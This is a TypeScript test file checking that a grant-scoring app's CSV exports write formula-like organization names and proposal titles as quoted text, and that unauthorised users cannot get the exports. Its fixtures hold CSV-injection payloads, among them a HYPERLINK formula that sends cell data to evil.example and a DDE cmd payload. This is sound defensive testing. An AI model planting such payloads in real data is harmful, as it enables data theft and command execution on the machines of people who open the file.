/**
 * CSV or formula injection through the two CSV routes: an organization's name
 * and a proposal's title typed as spreadsheet formulas come out of the
 * scoring results (`results.csv`) and the scenario export (`export.csv`) as
 * text, with the leading single quote of OWASP's rule, never as live formulas.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createHarness, fixtures, type Harness } from '../support/harness';

const EVIL_ORG = '=HYPERLINK("http://evil.example/?d="&A1;"Voir")';
const EVIL_TITLE = "+cmd|' /C calc'!A0";
const EVIL_ORG_2 = '@SUM(1)';
const EVIL_TITLE_2 = '-2+3';

let h: Harness;
let callId: string;
const base = () => `/api/t/{t}/calls/${callId}`;

/** The rows of a French CSV as a reader following RFC 4180 (with `;`) gets them back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

/** No cell a spreadsheet would run as a formula: none starts with `=`, `+`, `-` (unless a number), `@`, tab or CR. */
function expectNoFormula(rows: string[][]) {
  for (const cell of rows.flat()) {
    if (/^-\d+(,\d+)?$/.test(cell)) continue; // a negative number the code formatted
    expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r\0]/);
  }
}

async function submittedProposal(as: string, title: string, requested: number) {
  const content = { ...fixtures.content, title, requested, minimum: requested / 2, budgetLines: [{ label: 'Salaires', amount: requested }] };
  const d = await h.json('POST', `${base()}/proposals`, { as, body: { draft: {} }, expect: 201 });
  const s = await h.json('POST', `${base()}/proposals/${d.id}/submit`, { as, body: { version: 1, content }, expect: 200 });
  const call = await h.json('GET', base(), { as: 'coord' });
  await h.json('PUT', `${base()}/proposals/${d.id}/screening`, {
    as: 'coord',
    body: { version: s.version, results: call.eligibilityCriteria.map((c: { id: string }) => ({ criterionId: c.id, met: true, reason: '' })) },
    expect: 200,
  });
  return d.id as string;
}

beforeAll(async () => {
  h = await createHarness({ now: new Date('2026-11-23T15:00:00Z') });
  await h.addMember('manager', ['manager']);
  await h.addMember('coord', ['coordinator']);
  // Organizations whose legal names are formulas, each with a representative.
  const org1 = await h.json('POST', '/api/t/{t}/organizations', {
    as: 'manager',
    body: { ...fixtures.organization('4100000001'), legalName: EVIL_ORG },
    expect: 201,
  });
  const org2 = await h.json('POST', '/api/t/{t}/organizations', {
    as: 'manager',
    body: { ...fixtures.organization('4100000002'), legalName: EVIL_ORG_2 },
    expect: 201,
  });
  await h.addMember('rep1', ['organization'], org1.id);
  await h.addMember('rep2', ['organization'], org2.id);
  await h.addMember('m1', ['member']);
  const env = await h.json('POST', '/api/t/{t}/envelopes', { as: 'manager', body: fixtures.envelope, expect: 201 });
  const call = await h.json('POST', '/api/t/{t}/calls', { as: 'manager', body: fixtures.call(env.id), expect: 201 });
  await h.json('POST', `/api/t/{t}/calls/${call.id}/publish`, { as: 'manager', body: { version: call.version }, expect: 200 });
  callId = call.id;
  const p1 = await submittedProposal('rep1', EVIL_TITLE, 1_500_000);
  const p2 = await submittedProposal('rep2', EVIL_TITLE_2, 1_400_000);
  // Scoring opens once the call has closed.
  h.clock.now = new Date('2027-01-16T15:00:00Z');
  const criteria = [{ label: 'Pertinence', help: '', weightBp: 10_000, scale: 10, levels: [], linkedToNeeds: false }];
  const g = (
    await h.json('PUT', `${base()}/grid`, {
      as: 'coord',
      body: { version: null, criteria, mode: 'individual', rule: 'mean', normalize: false, disagreementThreshold: 15, assignments: null },
      expect: 201,
    })
  ).grid;
  const open = (await h.json('POST', `${base()}/grid/open`, { as: 'coord', body: { version: g.version, closesAt: '2027-02-15T22:00:00.000Z' }, expect: 200 }))
    .grid;
  const c = open.criteria[0].id;
  await h.json('PUT', `${base()}/scoring/proposals/${p1}/sheet`, {
    as: 'm1',
    body: { version: null, submit: true, scores: { [c]: { value: 9, comment: '' } } },
    expect: 200,
  });
  await h.json('PUT', `${base()}/scoring/proposals/${p2}/sheet`, {
    as: 'm1',
    body: { version: null, submit: true, scores: { [c]: { value: 6, comment: '' } } },
    expect: 200,
  });
  await h.json('POST', `${base()}/grid/close`, { as: 'coord', body: { version: open.version }, expect: 200 });
});

describe('CSV exports neutralise formulas typed by people', () => {
  it('results.csv writes a formula-like title and organization name as text, in French and in English', async () => {
    for (const lang of ['fr-CA', 'en-CA']) {
      const res = await h.request('GET', `${base()}/scoring/results.csv`, { as: 'coord', headers: { 'Accept-Language': lang } });
      expect(res.status).toBe(200);
      const rows = parseCsv(await res.text());
      const first = rows.find((r) => r[1] === `'${EVIL_TITLE}`);
      expect(first?.slice(0, 4)).toEqual(['1', `'${EVIL_TITLE}`, `'${EVIL_ORG}`, '15000']);
      const second = rows.find((r) => r[1] === `'${EVIL_TITLE_2}`);
      expect(second?.slice(0, 4)).toEqual(['2', `'${EVIL_TITLE_2}`, `'${EVIL_ORG_2}`, '14000']);
      expectNoFormula(rows);
    }
  });

  it('the scenario export.csv writes them as text too', async () => {
    const s = await h.json('POST', `${base()}/scenarios`, { as: 'coord', body: { name: '=1+1', method: 'greedy' }, expect: 201 });
    const res = await h.request('GET', `${base()}/scenarios/${s.id}/export.csv`, { as: 'coord' });
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual(['Scénario', "'=1+1"]);
    expect(rows.find((r) => r[0] === `'${EVIL_TITLE}`)?.slice(0, 4)).toEqual([`'${EVIL_TITLE}`, `'${EVIL_ORG}`, '90', '15000']);
    expect(rows.find((r) => r[0] === `'${EVIL_TITLE_2}`)?.slice(0, 4)).toEqual([`'${EVIL_TITLE_2}`, `'${EVIL_ORG_2}`, '60', '14000']);
    expectNoFormula(rows);
  });

  it('neither export reaches a member, a representative or another tenant', async () => {
    const s = (await h.json('GET', `${base()}/scenarios`, { as: 'coord', expect: 200 })).items[0];
    for (const as of ['m1', 'rep1']) {
      expect((await h.request('GET', `${base()}/scoring/results.csv`, { as })).status).toBe(403);
      expect((await h.request('GET', `${base()}/scenarios/${s.id}/export.csv`, { as })).status).toBe(403);
    }
    const other = await createHarness();
    await other.addMember('coord-b', ['coordinator']);
    expect((await other.request('GET', `/api/t/{t}/calls/${callId}/scoring/results.csv`, { as: 'coord-b' })).status).toBe(404);
    expect((await other.request('GET', `/api/t/{t}/calls/${callId}/scenarios/${s.id}/export.csv`, { as: 'coord-b' })).status).toBe(404);
  });
});
